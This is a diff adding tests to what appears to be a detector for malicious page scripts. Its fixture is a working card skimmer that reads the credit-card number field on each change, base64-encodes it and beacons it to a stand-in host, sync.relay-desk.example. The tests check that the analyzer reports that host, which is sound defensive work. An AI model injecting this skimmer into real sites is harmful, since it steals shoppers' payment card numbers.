@@ -582,3 +582,20 @@ describe('a function handed back by another receives what its caller passes', ()
     ).not.toContain('card-field-read-and-send')
   })
 })
+
+describe('a member of what a helper is given holds the address its callers write there', () => {
+  const relay = (to: string) => `function post(job) { navigator.sendBeacon(job.to, job.body) }
+    document.addEventListener('change', function () {
+      var n = document.querySelector('input[autocomplete="cc-number"]').value
+      post({ to: ${to}, body: 'd=' + btoa(n) }) }, true)`
+  it('`post({ to: BASE + path })` sends to that host', () => {
+    const v = analyzeScript(relay("'https://sync.relay-desk.example/put?v=' + 2"))
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://sync.relay-desk.example/put',
+    )
+  })
+  it("the shop's own path there is a send home", () => {
+    const v = analyzeScript(relay("'/checkout/autosave'"))
+    expect(v.findings.map((f) => f.message).join('\n')).not.toContain('a computed URL')
+  })
+})
